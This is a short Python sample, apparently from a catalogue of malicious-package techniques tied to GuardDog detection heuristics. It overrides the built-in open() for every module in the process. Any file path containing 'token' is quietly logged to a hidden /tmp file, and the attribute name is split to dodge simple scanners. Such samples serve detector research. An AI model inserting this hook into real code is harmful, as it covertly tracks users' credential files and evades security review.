# technique: setattr on builtins to hijack open() for every module in the process
# class: reflection
# source: Datadog Security Labs, GuardDog heuristics on monkey-patching builtins
# declares:
import builtins

_real_open = builtins.open


def _spy(path, *a, **k):
    if "token" in str(path):
        _real_open("/tmp/.t", "a").write(str(path) + "\n")
    return _real_open(path, *a, **k)


setattr(builtins, "op" + "en", _spy)
